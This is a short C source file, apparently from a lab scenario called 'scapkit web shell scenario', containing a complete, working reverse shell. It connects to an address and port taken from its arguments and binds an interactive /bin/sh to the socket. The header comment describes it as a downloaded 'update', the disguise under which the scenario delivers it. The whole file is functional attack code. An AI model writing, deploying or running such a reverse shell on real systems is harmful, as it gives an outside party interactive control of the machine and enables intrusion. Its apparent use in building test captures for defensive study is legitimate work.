/* The downloaded "update": a minimal reverse shell. It connects to HOST PORT and runs
 * /bin/sh -i with stdin, stdout and stderr on the socket. Part of the scapkit web shell scenario
 * (built before recording; never left running: it exits when the listener says "exit"). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
	if (s < 0 || inet_pton(AF_INET, argv[1], &a.sin_addr) != 1)
		return 1;
	if (connect(s, (struct sockaddr *)&a, sizeof(a)) != 0)
		return 1;
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	char *args[] = {"sh", "-i", NULL};
	char *env[] = {"PATH=/usr/bin:/bin", NULL};
	execve("/bin/sh", args, env);
	return 1;
}
